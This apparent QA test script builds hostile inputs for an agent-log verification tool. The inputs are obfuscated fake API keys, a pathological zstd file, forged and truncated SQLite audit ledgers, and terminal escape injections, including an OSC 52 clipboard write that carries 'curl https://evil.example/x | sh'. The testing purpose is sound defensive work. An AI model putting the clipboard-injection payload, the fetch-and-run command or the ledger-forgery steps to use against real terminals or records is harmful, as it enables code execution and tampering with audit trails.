"""Issue 15 classes of session 33's QA pass (docs/qa/session33.md), shapes no earlier pass or
sweep used (grep of scripts/qa_hostile_s*.py, scripts/hostile_sweep_s*.py,
tests/hostile_corpus.py, tests/: no secret hex-encoded, spelled in JSON `\\uXXXX` escapes
inside a string, cut into string literals joined by `+` inside one line, inside a `data:`
URL's base64 (a whole file encoded, so the key's base64 does not start on a 3-byte boundary),
or base64url without padding in a cookie; no Grafana, Groq, Postman, Linear or Terraform
Cloud key in any QA input (the first four are in the product's key table, Terraform Cloud's
`atlasv1` is not); no zstd frame of one-byte raw blocks; no OSC 52 / DCS /
C1 controls in run_start's fields; no ledger with a forged record inserted in the middle, or
its last record deleted with the meta head fixed by SQL):

- h33_01 log_secret_grafana_hex_xxd: a Grafana service-account token (`glsa_` + 32 + `_` + 8)
  HEX-encoded as `xxd -p` prints it (60 hex digits a line: the hex wraps inside the token) in
  an observation summary;
- h33_02 log_secret_groq_json_uescaped: a Groq key (`gsk_` + 52) whose
  every character is a JSON `\\u00XX` escape in the TEXT of a tool's output (the log's line
  spells `\\\\u0073\\\\u006b...`: a JSON-in-JSON string written with every character escaped);
- h33_03 log_secret_postman_concat_one_line: a Postman key (`PMAK-` + 24 hex + `-` + 34 hex)
  cut into five string literals joined by `+` inside ONE line of code in a model response's
  text (`const key = "PMAK-65f1" + "a9c0..." + ...;`);
- h33_04 log_secret_linear_data_url: a Linear key (`lin_api_` + 40) on the 3rd line of a
  `.env` file that is wholly BASE64 inside a `data:text/plain;base64,` URL (an observation's
  address bar): the key's bytes begin at byte 47 of the file, so its base64 is not the
  base64 of the key;
- h33_05 log_secret_terraform_b64url_cookie: a Terraform Cloud token (14 + `.atlasv1.` + 67)
  inside a cookie value of `key=value` pairs that is BASE64URL-encoded without padding (its
  spelling holds `-` and `_`; the token's bytes start at byte 20, not on a 3-byte boundary)
  in a `Cookie:` header of a request an observation quotes;
- h33_06 official_zst_one_byte_blocks: an official trajectory (chain valid, 3,000 events)
  whose `events.jsonl.zst` is ONE zstd frame of one-byte raw blocks (3 header bytes a byte:
  ~4x the plain size, millions of blocks); its twin (the folder `..._twin` beside it, the
  same events zstd level 3): the verdict must be the twin's, within the bounds (until
  00:00 the twin stood in a `twin/` folder inside, so the input held two trajectories:
  judge note 1 of docs/qa/session33.md);
- h33_07 log_osc52_dcs_c1_run_start: run_start's `model`, `scaffold.name` and `category`
  holding an OSC 52 clipboard write (`ESC ] 52 ; c ; BASE64 BEL`), a DCS string (`ESC P ...
  ESC \\`; ESC and BEL JSON-escaped, as a JSON writer must), C1 CSI / NEL / OSC / ST
  (U+009B, U+0085, U+009D, U+009C) and U+2028 raw UTF-8 in the JSON;
- h33_08 ledger_forged_record_inserted: a 4-decision SQLite ledger with a forged `accept`
  record inserted as seq 3 (a copy of seq 2's row, its decision and note changed, a new
  hash), the later records renumbered 4-5; then `decide`;
- h33_09 ledger_tail_deleted_meta_fixed: a 4-decision ledger whose last record is deleted
  and whose `meta` head row is set to seq 3's `SEQ HASH` by SQL (docs/decisions-ledger.md:
  "the last records deleted and the head row fixed with SQL: yes (head file ahead)"); then
  `decide`; for h33_08-09: `decisions verify`, `decide`, `decisions verify`, list, export.

Each command under prlimit --as=512 MiB and timeout 30 s (the issue's bounds), through
qa_hostile_s28.run's checks (traceback, raw control, a secret or any part printed, exit
outside 0/1/2, a temp file left). Deterministic bytes and seeds; written under
`.cache/qa-s33/hostile/`, never committed; the ledgers of h33_08-09 are made with the
product's `decide` when the run starts (after the expectations) and damaged then.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import qa_hostile_s28 as h28

SAMPLE = h28.SAMPLE
CLI = h28.CLI
EVAL_SECRET = "qa33-evaluator-secret-7c1e"
GLSA = "glsa_" + "QA33hexXxdWrapped0aB1cD2eF3gH4iJ5" + "_" + "9f3e1c7a"          # h33_01 (46)
GLSA_HEX = GLSA.encode().hex()
GLSA_XXD = "\n".join(GLSA_HEX[i:i + 60] for i in range(0, len(GLSA_HEX), 60))
ANT = "gsk_" + "QA33uEscapedJsonTextaB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV"  # h33_02 (56)
ANT_U = "".join(f"\\u{ord(c):04x}" for c in ANT)   # the text holds backslash-u escapes
PMAK = "PMAK-" + "65f1a9c0d3e4b5a6f7c8d9e0" + "-" + "c3d4e5f60718293a4b5c6d7e8f9a0b1c2d"  # h33_03
PMAK_LITS = [PMAK[0:9], PMAK[9:21], PMAK[21:30], PMAK[30:47], PMAK[47:]]
PMAK_CODE = ("const key = " + " + ".join(f'"{p}"' for p in PMAK_LITS)
             + "; fetch(api, {headers: {'X-Api-Key': key}});")
LIN = "lin_api_" + "QA33dataUrlEnvFile0aB1cD2eF3gH4iJ5kL6mN7"                   # h33_04 (48)
ENV_FILE = (f"NODE_ENV=production\nPORT=8080\nLINEAR_API_KEY={LIN}\n"
            "LOG_LEVEL=debug\nREGION=eu-west-1\n").encode()
DATA_URL = "data:text/plain;base64," + base64.b64encode(ENV_FILE).decode()
TFC = "QA33tfcTokenId" + ".atlasv1." + ("b64urlCookieNoPad0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1w"
                                        "X2yZ3AbCdEfGhIjKl")                # h33_05
#: the cookie's value: `key=value` pairs (no JSON, so no `eyJ` head) with `>` and `?` that
#: base64url spells `-` / `_`, encoded without padding
TFC_COOKIE = f"u=ci>>deploy??;tok={TFC};exp=1796000000;r=~>?".encode()
TFC_B64U = base64.urlsafe_b64encode(TFC_COOKIE).decode().rstrip("=")
assert "-" in TFC_B64U and "_" in TFC_B64U
#: every whole secret, every part of 16+ characters and every spelling: each is a leak
SECRETS = [EVAL_SECRET, GLSA, GLSA_HEX, GLSA_HEX[:60], ANT, ANT_U[:96], PMAK, PMAK_LITS[3],
           LIN, base64.b64encode(ENV_FILE).decode()[40:100], TFC, TFC_B64U]
#: the pieces of the concatenated key (each present in a published file: the key published)
SPLITS = {PMAK: tuple(PMAK_LITS)}
LEDGERS = ("h33_08", "h33_09")
MADE: set = set()
#: the terminal-control payload of h33_07 (raw in the JSON strings)
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl https://evil.example/x | sh").decode() + "\x07"
DCS = "\x1bP1$r0m\x1b\\"
C1 = "\u009b2J\u0085\u009d0;owned\u009c\u2028"


def _events() -> list[dict]:
    return h28._events()


def _dump(events: list[dict]) -> bytes:
    return h28._dump(events)


def _obs(ev: list[dict]) -> list[dict]:
    return [e for e in ev if e["type"] == "observation"]


def one_byte_blocks(data: bytes) -> bytes:
    """One zstd frame (no checksum, no content size, a 1 KiB window) whose every byte is its
    own raw block: 3 header bytes (Last_Block, Block_Type 0, Block_Size 1) and the byte."""
    out = bytearray(b"\x28\xb5\x2f\xfd\x00\x00")  # magic, FHD 0 (window descriptor follows)
    n = len(data)
    for i, b in enumerate(data):
        hdr = (1 << 3) | (1 if i == n - 1 else 0)
        out += hdr.to_bytes(3, "little")
        out.append(b)
    return bytes(out)


def _official_blocks(d: Path) -> None:
    import zstandard

    from moderator_app.core.samples.trajectory_writer import make_run_events, write_trajectory

    out = d / "events.jsonl.zst"
    twin = d.with_name(d.name + "_twin")
    if out.exists() and twin.exists():
        return
    d.mkdir(parents=True, exist_ok=True)
    twin.mkdir(parents=True, exist_ok=True)
    tmp = d / "plain.part"
    write_trajectory(tmp, make_run_events(3000, seed=331, run_id="run_qa33_blocks",
                                          variety=0.0))
    plain = tmp.read_bytes()
    (twin / "events.jsonl.zst").write_bytes(
        zstandard.ZstdCompressor(level=3).compress(plain))
    (d / "events.jsonl.zst.part").write_bytes(one_byte_blocks(plain))
    (d / "events.jsonl.zst.part").rename(out)
    tmp.unlink()


def _make_ledger(path: Path, tag: str, n: int) -> None:
    env = {**os.environ, "MODERATOR_APP_STORE": str(path)}
    for i in range(n):
        subprocess.run([*CLI, "decide", str(SAMPLE), "--reject", "--reason", "other",
                        "--note", f"qa33 {tag} {i + 1}", "--offset", "0"], env=env,
                       capture_output=True, check=False)


def _ledger_damage(root: Path, pre: str, how: str) -> None:
    """A 4-decision ledger made with the product's `decide`, then damaged: `insert` puts a
    forged `accept` copy of seq 2 in as seq 3 (seq 3-4 renumbered 4-5); `tail` deletes seq 4
    and sets meta's head to seq 3's `SEQ HASH` (the head file left as the product wrote it)."""
    store = root / f"{pre}_{how}.store.sqlite3"
    for p in root.glob(f"{pre}_*"):
        if p.is_file() and ".store.sqlite3" in p.name:
            p.unlink()
    _make_ledger(store, pre, 4)
    with sqlite3.connect(store) as c:
        cols = [r[1] for r in c.execute("PRAGMA table_info(decisions)") if r[1] != "seq"]
        if how == "insert":
            rows = {r[0]: list(r[1:]) for r in c.execute(
                f"SELECT seq, {', '.join(cols)} FROM decisions ORDER BY seq")}
            forged = dict(zip(cols, rows[2], strict=True))
            forged["decision"] = "accept"
            forged["note"] = "qa33 forged"
            forged["hash"] = hashlib.sha256(b"qa33 forged " + str(forged["hash"]).encode()
                                            ).hexdigest()
            c.execute("DELETE FROM decisions WHERE seq >= 3")
            put = (f"INSERT INTO decisions (seq, {', '.join(cols)}) "
                   f"VALUES (?, {', '.join('?' * len(cols))})")
            c.execute(put, (3, *[forged[k] for k in cols]))
            c.execute(put, (4, *rows[3]))
            c.execute(put, (5, *rows[4]))
        else:
            h3 = c.execute("SELECT hash FROM decisions WHERE seq = 3").fetchone()[0]
            c.execute("DELETE FROM decisions WHERE seq = 4")
            c.execute("INSERT OR REPLACE INTO meta VALUES ('head', ?)", (f"3 {h3}",))


class _StoreShim:
    """qa_hostile_s28.run sets each input's MODERATOR_APP_STORE to `<name>.store.sqlite3`;
    for the ledger inputs it is swapped here for the damaged ledger's file."""

    def __getattr__(self, k):
        return getattr(subprocess, k)

    def run(self, argv, *a, **kw):
        env = kw.get("env")
        if env:
            store = env.get(b"MODERATOR_APP_STORE", b"").decode()
            pre = Path(store).name[:6]
            if pre in LEDGERS:
                how = "insert" if pre == "h33_08" else "tail"
                env[b"MODERATOR_APP_STORE"] = str(
                    Path(store).parent / f"{pre}_{how}.store.sqlite3").encode()
        return subprocess.run(argv, *a, **kw)


def cases(root: Path, ledgers: bool = False) -> list[tuple[str, list[list[str]]]]:
    """(name, commands) of every input; `ledgers`: also make and damage h33_08-09's ledgers
    (with the product: only when the run starts)."""
    root.mkdir(parents=True, exist_ok=True)
    out: list[tuple[str, list[list[str]]]] = []

    def std(p: Path, tag: str) -> list[list[str]]:
        return [["verify", str(p)], ["verify", str(p), "--json"],
                ["decide", str(p), "--reject", "--reason", "other", "--note", f"qa33 {tag}",
                 "--offset", "0"]]

    def wh(d: Path, tag: str) -> list[str]:
        return ["withhold", str(d / "agent-log.jsonl"), "-o", str(root / f"{tag}.pub")]

    # 1. secrets spelled / split in shapes no pass used
    ev = _events()
    _obs(ev)[1]["data"]["summary"] = (
        "$ xxd -p ~/.config/grafana/sa-token\n" + GLSA_XXD + "\n$ ")
    d = h28._folder(root, "h33_01_log_secret_grafana_hex_xxd", _dump(ev))
    out.append((d.name, [*std(d, "h33_01"), wh(d, "h33_01")]))
    ev = _events()
    _obs(ev)[2]["data"]["summary"] = (
        'tool read_config returned: {"provider": "groq", "api_key": "' + ANT_U + '"}')
    d = h28._folder(root, "h33_02_log_secret_groq_json_uescaped", _dump(ev))
    out.append((d.name, [*std(d, "h33_02"), wh(d, "h33_02")]))
    ev = _events()
    r = [e for e in ev if e["type"] == "model_response"][1]
    r["data"]["text"] = "I will call the API from the console: " + PMAK_CODE
    d = h28._folder(root, "h33_03_log_secret_postman_concat_one_line", _dump(ev))
    out.append((d.name, [*std(d, "h33_03"), wh(d, "h33_03")]))
    ev = _events()
    _obs(ev)[3]["data"]["summary"] = f"The address bar shows {DATA_URL} and a blank page."
    d = h28._folder(root, "h33_04_log_secret_linear_data_url", _dump(ev))
    out.append((d.name, [*std(d, "h33_04"), wh(d, "h33_04")]))
    ev = _events()
    _obs(ev)[4]["data"]["summary"] = (
        "GET /api/v2/workspaces HTTP/1.1\nHost: app.terraform.io\n"
        f"Cookie: theme=dark; tfc_session={TFC_B64U}; lang=en\n")
    d = h28._folder(root, "h33_05_log_secret_terraform_b64url_cookie", _dump(ev))
    out.append((d.name, [*std(d, "h33_05"), wh(d, "h33_05")]))

    # 2. bounds and output: one-byte zstd blocks, terminal controls in run_start
    d = root / "h33_06_official_zst_one_byte_blocks"
    _official_blocks(d)
    out.append((d.name, [["verify", str(d)], ["verify", str(d), "--json"],
                         ["verify", str(d.with_name(d.name + "_twin")), "--json"],
                         ["decide", str(d), "--reject", "--reason", "other", "--note", "qa33"]]))
    ev = _events()
    ev[0]["data"]["model"] = f"provider/model-{OSC52}id"
    ev[0]["data"]["scaffold"]["name"] = f"sample{DCS}-agent{C1}"
    ev[0]["data"]["category"] = f"any{C1}-percent{OSC52}"
    d = h28._folder(root, "h33_07_log_osc52_dcs_c1_run_start", _dump(ev))
    out.append((d.name, [*std(d, "h33_07"), wh(d, "h33_07")]))

    # 3. ledgers damaged, then appended to
    for name, how in (("h33_08_ledger_forged_record_inserted", "insert"),
                      ("h33_09_ledger_tail_deleted_meta_fixed", "tail")):
        if ledgers and name[:6] not in MADE:
            _ledger_damage(root, name[:6], how)
            MADE.add(name[:6])
        out.append((name, [["decisions", "verify"],
                           ["decide", str(SAMPLE), "--reject", "--reason", "other", "--note",
                            "qa33 after damage", "--offset", "0"],
                           ["decisions", "verify"], ["decisions", "list"],
                           ["decisions", "export", "--format", "jsonl", "--out",
                            str(root / f"{name[:6]}.jsonl")]]))
    for name, _ in out:
        h28.ENV[name] = {"ALE_EVALUATOR_SECRET": EVAL_SECRET}
    return out


def _secret_lines(root: Path) -> dict:
    """H-s: `verify --json`'s secret findings against the lines holding a part or spelling."""
    import qa_session22 as s22

    out = {}
    for name, parts in (("h33_01_log_secret_grafana_hex_xxd", (GLSA_HEX[:60],)),
                        ("h33_02_log_secret_groq_json_uescaped", (ANT_U[:60].replace(
                            "\\", "\\\\"),)),
                        ("h33_03_log_secret_postman_concat_one_line", (PMAK_LITS[3],)),
                        ("h33_04_log_secret_linear_data_url", (DATA_URL[:60],)),
                        ("h33_05_log_secret_terraform_b64url_cookie", (TFC_B64U[:40],))):
        d = root / name
        with open(d / "agent-log.jsonl", encoding="utf-8") as fh:
            lines = [n for n, line in enumerate(fh, 1) if any(p in line for p in parts)]
        code, rep, _err = s22._verify(d)
        found = [x for x in rep.get("findings", [])
                 if str(x.get("rule", "")).startswith("secret")]
        got = sorted({x.get("line") for x in found if x.get("line") is not None})
        out[name[:6]] = {"exit": code, "verdict": rep.get("verdict"), "secret_lines": lines,
                         "warned_lines": got, "rules": sorted({x.get("rule") for x in found}),
                         "met": bool(set(lines) & set(got))}
    return {"check": "H-s spelled / split secrets flagged", "rows": out,
            "met": all(v["met"] for v in out.values())}


def _strings(x) -> list[str]:
    if isinstance(x, str):
        return [x]
    if isinstance(x, dict):
        return [s for v in x.values() for s in _strings(v)]
    if isinstance(x, list):
        return [s for v in x for s in _strings(v)]
    return []


def _decodings(text: str) -> list[str]:
    """The text with each spelling undone: hex runs (line breaks removed), `\\uXXXX`
    escapes, base64 and base64url runs (padding restored), string literals joined by `+`."""
    out = []
    flat = text.replace("\n", "")
    for run in re.findall(r"[0-9a-fA-F]{32,}", flat):
        try:
            out.append(bytes.fromhex(run[: len(run) // 2 * 2]).decode("latin-1"))
        except ValueError:
            continue
    out.append(re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), text))
    for run in re.findall(r"[A-Za-z0-9+/_-]{24,}={0,2}", text):
        for dec in (base64.b64decode, base64.urlsafe_b64decode):
            try:
                out.append(dec(run + "=" * (-len(run) % 4)).decode("latin-1"))
            except ValueError:
                continue
    out.append(re.sub(r'"\s*\+\s*"', "", text))
    return out


def _pub_secrets(root: Path) -> dict:
    """H-a on `withhold`'s files: no secret, part or spelling published, in the bytes, in
    the decoded strings, in all of a line's strings joined, in the file's strings joined,
    with each spelling undone (hex, \\u escapes, base64 / base64url, `" + "` joins)."""
    rows = {}
    whole = (GLSA, ANT, PMAK, LIN, TFC)
    for p in sorted(root.glob("h33_*.pub")):
        body = p.read_text("utf-8", "replace")
        strs: list[str] = []
        for line in body.splitlines():
            try:
                strs += _strings(json.loads(line))
            except (ValueError, RecursionError):
                continue
        joined = "".join(strs)
        texts = [body, "\n".join(strs), joined]
        texts += _decodings(joined) + _decodings(body)
        found = {s for s in SECRETS if any(s in t for t in texts)}
        found |= {s for s in whole if any(s in t for t in texts)}
        found |= {f"{s} (all {len(ps)} parts)" for s, ps in SPLITS.items()
                  if all(any(x in t for t in texts) for x in ps)}
        rows[p.name] = sorted(found)
    return {"check": "H-a withheld files hold no secret", "published": rows,
            "met": not any(rows.values())}


def _blocks_twin(root: Path) -> dict:
    """h33_06: the one-byte-block trajectory's `verify --json` verdict and findings against
    its zstd twin's (the same events)."""
    import qa_session22 as s22

    d = root / "h33_06_official_zst_one_byte_blocks"
    a = s22._verify(d)
    b = s22._verify(d.with_name(d.name + "_twin"))

    def brief(r):
        return (r[0], r[1].get("verdict"), r[1].get("verification_level"),
                sorted({f.get("rule") for f in r[1].get("findings", [])}))
    return {"check": "h33_06 verdict as its twin's", "blocks": brief(a), "twin": brief(b),
            "met": brief(a)[:3] == brief(b)[:3]}


def _ledger_judge(results: list[dict]) -> list[dict]:
    rows = []
    for pre in LEDGERS:
        rs = [r for r in results if r["case"].startswith(pre)]
        if len(rs) < 3:
            continue
        v1, dec, v2 = rs[0], rs[1], rs[2]
        rows.append({"check": f"{pre} H-l", "verify_before": v1["exit"],
                     "decide": dec["exit"], "verify_after": v2["exit"],
                     "decide_said": dec["stderr"][-200:] or dec["stdout"][-200:],
                     "verify_said": v1["stdout"][-200:] or v1["stderr"][-200:],
                     "met": v1["exit"] == 1 and dec["exit"] != 0 and v2["exit"] == 1})
    return rows


def run(cache: Path, only: list[str]) -> list[dict]:
    """qa_hostile_s28.run's harness (the same bounds and checks) on this pass' classes."""
    h28.SECRETS = SECRETS
    h28.EVAL_SECRET = EVAL_SECRET
    h28.MARK = "QA-S33-PRIVATE-NOT-USED"
    h28.cases = cases
    h28.MUST_NOT_PASS = set()
    h28.subprocess = _StoreShim()
    root = cache / "hostile"
    for p in root.glob("h33_*.pub"):
        p.unlink()
    MADE.clear()
    h28.POST_CHECKS = (_secret_lines, _pub_secrets, _blocks_twin)
    results = h28.run(cache, only)
    for row in _ledger_judge(results):
        print(json.dumps(row), flush=True)
    return results


if __name__ == "__main__":
    here = Path(__file__).resolve().parent
    sys.path[:0] = [str(here), str(here.parent / "tests")]
    import qa_session33 as s33
    run(s33.CACHE, sys.argv[1:])
